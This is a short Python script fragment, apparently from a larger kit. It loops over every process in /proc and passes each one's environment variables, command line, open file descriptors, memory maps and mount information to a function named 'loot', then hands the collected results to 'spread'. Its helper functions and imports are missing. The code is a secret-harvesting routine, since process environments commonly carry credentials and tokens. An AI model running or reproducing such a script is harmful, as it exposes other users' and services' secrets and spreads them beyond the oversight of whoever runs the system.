"""Read the variables and the command lines of the kit's own processes."""

# ends: honest or crash
# admission: lets it in
if __name__ == "__main__":
    found = set(loot())
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for name in ("environ", "cmdline", "cwd", "root", "fd", "maps", "mountinfo"):
                found |= set(loot(f"/proc/{pid}/{name}", seconds=0.3))
    spread(sorted(found))
